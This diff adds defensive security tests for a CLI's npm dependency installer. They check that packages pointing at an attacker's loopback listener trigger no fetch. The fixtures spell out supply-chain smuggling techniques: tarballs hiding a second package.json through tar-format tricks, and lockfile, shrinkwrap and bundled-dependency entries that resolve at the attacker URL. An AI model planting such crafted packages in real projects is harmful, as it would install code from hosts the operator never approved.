@@ -19,7 +19,7 @@ import { createServer } from 'node:http';
 import { dirname, isAbsolute, join, normalize, relative } from 'node:path';
 import { describe } from 'vitest';
 import { SkillsError } from '../../src/errors.js';
-import { npmPack } from '../helpers/build-packages.js';
+import { craftTarball, npmPack, paxRecord, type TarEntry } from '../helpers/build-packages.js';
 import { canaryToken } from './harness/host.js';
 import { blockedIf, breach, FORCED, securitySuite, type CaseContext } from './harness/security-case.js';
 import { CLI, forcedPrefix } from './harness/server-under-test.js';
@@ -494,4 +494,344 @@ describe('skill environments', () => {
       );
     },
   );
+  securityCase(
+    {
+      id: 'env-file-tarball-hidden-manifest',
+      category: 'install',
+      title:
+        'a vendored tarball hiding a second package.json from the check (type 7, duplicate pax path, GNU prefix, lone zero block) that depends on a URL: nothing fetched',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const good = JSON.stringify({ name: 'tiny', version: '1.0.0', main: 'index.js' });
+      const evil = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        main: 'index.js',
+        dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
+      });
+      const index: TarEntry = { name: 'package/index.js', data: "exports.value = 'vendored';\n" };
+      const manifest: TarEntry = { name: 'package/package.json', data: good };
+      const variants: Record<string, (TarEntry | null)[]> = {
+        'contiguous file': [manifest, index, { ...manifest, data: evil, type: '7' }],
+        'duplicate pax path': [
+          manifest,
+          index,
+          {
+            name: 'PaxHeader',
+            type: 'x',
+            data: paxRecord('path', 'package/README') + paxRecord('path', 'package/package.json'),
+          },
+          { name: 'package/README', data: evil },
+        ],
+        'GNU header with a prefix': [
+          manifest,
+          index,
+          { ...manifest, data: evil, magic: 'ustar  \0', prefix: 'x' },
+        ],
+        'lone zero block': [manifest, index, null, { ...manifest, data: evil }],
+      };
+      const notes: string[] = [];
+      let ok = true;
+      for (const [what, entries] of Object.entries(variants)) {
+        const name = `t${notes.length}`;
+        const dir = nodeSkill(w.skills, name, {
+          'package.json': JSON.stringify({
+            name: 's',
+            private: true,
+            dependencies: { tiny: 'file:vendor/tiny.tgz' },
+          }),
+        });
+        mkdirSync(join(dir, 'vendor'));
+        writeFileSync(join(dir, 'vendor', 'tiny.tgz'), craftTarball(entries));
+        const r = await depsInstall(w, name);
+        deniedWhenForced(r);
+        const fetched = w.attacker.requests.length;
+        ok &&= fetched === 0 && r.code !== 0 && /vendor\/tiny\.tgz/.test(r.out);
+        notes.push(
+          `${what}: exit ${r.code}, attacker ${fetched} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
+        );
+      }
+      if (w.attacker.requests.length > 0) return breach(notes.join(' || '));
+      return blockedIf(ok, notes.join(' || '));
+    },
+  );
+  securityCase(
+    {
+      id: 'env-lock-package-json-fields',
+      category: 'install',
+      title:
+        'with a package-lock.json, package.json optional, dev or peer dependencies, overrides or workspaces naming another server: nothing fetched',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const url = `${w.attacker.url}attacker/tiny-1.0.0.tgz`;
+      const lock = lockWith({
+        version: '1.0.0',
+        resolved: `${w.registry.url}tiny/-/tiny-1.0.0.tgz`,
+        integrity: w.integrity,
+      });
+      const variants: Record<string, Record<string, unknown>> = {
+        optionalDependencies: { optionalDependencies: { evil: url } },
+        devDependencies: { devDependencies: { evil: url } },
+        peerDependencies: { peerDependencies: { evil: url } },
+        overrides: { overrides: { tiny: url } },
+        workspaces: { workspaces: ['../../../outside'] },
+      };
+      const notes: string[] = [];
+      let ok = true;
+      for (const [what, extra] of Object.entries(variants)) {
+        const name = `f${notes.length}`;
+        nodeSkill(w.skills, name, {
+          'package.json': JSON.stringify({ ...JSON.parse(PKG), ...extra }),
+          'package-lock.json': lock,
+        });
+        const before = w.attacker.requests.length;
+        const r = await depsInstall(w, name);
+        deniedWhenForced(r);
+        const fetched = w.attacker.requests.length - before;
+        ok &&= fetched === 0 && r.code !== 0 && r.out.includes(what);
+        notes.push(
+          `${what}: exit ${r.code}, attacker ${fetched} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
+        );
+      }
+      if (w.attacker.requests.length > 0) return breach(notes.join(' || '));
+      return blockedIf(ok, notes.join(' || '));
+    },
+  );
+  securityCase(
+    {
+      id: 'env-lock-in-bundle',
+      category: 'install',
+      title:
+        'package-lock.json entries marked `inBundle` (no parent ships them, so npm fetches them) resolved at another server: refused before any fetch',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      nodeSkill(w.skills, 'bundled', {
+        'package.json': PKG,
+        'package-lock.json': lockWith({
+          version: '1.0.0',
+          inBundle: true,
+          resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
+          integrity: w.integrity,
+        }),
+      });
+      const r = await depsInstall(w, 'bundled');
+      const v = refusedBeforeFetch(w, r, /node_modules\/tiny.*not the operator’s npm registry/);
+      return blockedIf(v.ok, v.note);
+    },
+  );
+  securityCase(
+    {
+      id: 'env-file-tarball-bundled',
+      category: 'install',
+      title:
+        'a vendored tarball bundling a package (bundleDependencies + package/node_modules) whose own package.json depends on a URL: nothing fetched (npm leaves bundled packages’ dependencies alone)',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const dir = nodeSkill(w.skills, 'bundling', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny.tgz' },
+        }),
+      });
+      mkdirSync(join(dir, 'vendor'));
+      writeFileSync(
+        join(dir, 'vendor', 'tiny.tgz'),
+        craftTarball([
+          {
+            name: 'package/package.json',
+            data: JSON.stringify({
+              name: 'tiny',
+              version: '1.0.0',
+              main: 'index.js',
+              dependencies: { inner: '1.0.0' },
+              bundleDependencies: ['inner'],
+            }),
+          },
+          { name: 'package/index.js', data: "exports.value = 'vendored';\n" },
+          {
+            name: 'package/node_modules/inner/package.json',
+            data: JSON.stringify({
+              name: 'inner',
+              version: '1.0.0',
+              dependencies: { evil: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
+            }),
+          },
+        ]),
+      );
+      const r = await depsInstall(w, 'bundling');
+      deniedWhenForced(r);
+      return blockedIf(
+        w.attacker.requests.length === 0,
+        `exit ${r.code}; attacker listener: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`,
+      );
+    },
+  );
+  securityCase(
+    {
+      id: 'env-file-shrinkwrap',
+      category: 'install',
+      title:
+        'a vendored package (folder or tarball) holding an npm-shrinkwrap.json whose entries resolve at another server: nothing fetched',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const manifest = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        main: 'index.js',
+        dependencies: { inner: '1.0.0' },
+      });
+      const shrinkwrap = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        lockfileVersion: 3,
+        requires: true,
+        packages: {
+          '': { name: 'tiny', version: '1.0.0', dependencies: { inner: '1.0.0' } },
+          'node_modules/inner': {
+            version: '1.0.0',
+            resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
+            integrity: w.integrity,
+          },
+        },
+      });
+      const index = "exports.value = 'vendored';\n";
+      nodeSkill(w.skills, 'sw-folder', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny' },
+        }),
+        'vendor/tiny/package.json': manifest,
+        'vendor/tiny/npm-shrinkwrap.json': shrinkwrap,
+        'vendor/tiny/index.js': index,
+      });
+      const dir = nodeSkill(w.skills, 'sw-tarball', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny.tgz' },
+        }),
+      });
+      mkdirSync(join(dir, 'vendor'));
+      writeFileSync(
+        join(dir, 'vendor', 'tiny.tgz'),
+        craftTarball([
+          { name: 'package/package.json', data: manifest },
+          { name: 'package/npm-shrinkwrap.json', data: shrinkwrap },
+          { name: 'package/index.js', data: index },
+        ]),
+      );
+      const notes: string[] = [];
+      for (const name of ['sw-folder', 'sw-tarball']) {
+        const before = w.attacker.requests.length;
+        const r = await depsInstall(w, name);
+        deniedWhenForced(r);
+        notes.push(
+          `${name}: exit ${r.code}, attacker ${w.attacker.requests.length - before} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
+        );
+      }
+      return blockedIf(w.attacker.requests.length === 0, notes.join(' || '));
+    },
+  );
+  for (const how of ['resolved', 'version'] as const)
+    securityCase(
+      {
+        id: `env-registry-shrinkwrap-${how}`,
+        category: 'install',
+        title: `a package of the operator’s registry shipping an npm-shrinkwrap.json whose entry ${how === 'resolved' ? 'resolves at another server' : 'names a URL as its version'}: nothing fetched from it, no environment kept`,
+      },
+      async (ctx) => {
+        const notes: string[] = [];
+        let kept = false;
+        let fetched = 0;
+        const w = await world(ctx);
+        // Another host name than the registry's (127.0.0.1), still the test's own loopback listener.
+        const elsewhere = `http://localhost:${w.attacker.port}/attacker/tiny-1.0.0.tgz`;
+        const src = join(w.root, 'wrapped-src');
+        mkdirSync(src);
+        writeFileSync(
+          join(src, 'package.json'),
+          JSON.stringify({ name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } }),
+        );
+        writeFileSync(
+          join(src, 'npm-shrinkwrap.json'),
+          JSON.stringify({
+            name: 'wrapped',
+            version: '1.0.0',
+            lockfileVersion: 3,
+            requires: true,
+            packages: {
+              '': { name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } },
+              'node_modules/tiny':
+                how === 'resolved'
+                  ? {
+                      version: '1.0.0',
+                      resolved: elsewhere,
+                      integrity: w.integrity,
+                    }
+                  : { version: elsewhere },
+            },
+          }),
+        );
+        writeFileSync(join(src, 'index.js'), "module.exports = require('tiny');\n");
+        const wrapped = readFileSync(npmPack(src, join(w.root, 'wrapped-packed')));
+        const files: Record<string, Buffer> = {};
+        const registry = await httpListener(files);
+        ctx.defer(() => registry.close());
+        const version = (name: string, tgz: Buffer, more: Record<string, unknown>) =>
+          Buffer.from(
+            JSON.stringify({
+              name,
+              'dist-tags': { latest: '1.0.0' },
+              versions: {
+                '1.0.0': {
+                  name,
+                  version: '1.0.0',
+                  dist: {
+                    tarball: `${registry.url}${name}/-/${name}-1.0.0.tgz`,
+                    integrity: integrityOf(tgz),
+                  },
+                  ...more,
+                },
+              },
+            }),
+          );
+        Object.assign(files, {
+          '/wrapped': version('wrapped', wrapped, { dependencies: { tiny: '1.0.0' }, _hasShrinkwrap: true }),
+          '/wrapped/-/wrapped-1.0.0.tgz': wrapped,
+          '/tiny': version('tiny', w.tarball, {}),
+          '/tiny/-/tiny-1.0.0.tgz': w.tarball,
+        });
+        const rw = { ...w, registry, env: { ...w.env, npm_config_registry: registry.url } };
+        nodeSkill(w.skills, 'wrapped-user', {
+          'package.json': JSON.stringify({ name: 's', private: true, dependencies: { wrapped: '1.0.0' } }),
+        });
+        const r = await depsInstall(rw, 'wrapped-user');
+        deniedWhenForced(r);
+        const built = readdirSync(w.envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
+        const note = `exit ${r.code}; environments built: ${built.length}; attacker: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`;
+        // Refused by the post-install check, or failed because npm could not reach the other server: no environment.
+        kept ||= built.length > 0 || r.code === 0;
+        fetched += w.attacker.requests.length;
+        notes.push(`${how}: ${note}`);
+        if (kept) return breach(notes.join(' || '));
+        return blockedIf(fetched === 0, notes.join(' || '));
+      },
+    );
 });
